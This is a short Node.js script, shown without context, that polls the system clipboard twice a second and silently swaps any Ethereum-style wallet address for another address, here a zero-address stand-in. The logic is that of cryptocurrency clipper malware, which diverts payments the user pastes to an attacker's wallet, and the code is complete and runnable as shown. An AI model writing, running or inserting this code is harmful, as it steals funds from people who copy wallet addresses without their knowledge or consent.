const clipboardy = require('clipboardy');
setInterval(() => {
  const text = clipboardy.readSync();
  const other = text.replace(/0x[a-fA-F0-9]{40}/, '0x0000000000000000000000000000000000000000');
  if (other !== text) clipboardy.writeSync(other);
}, 500);
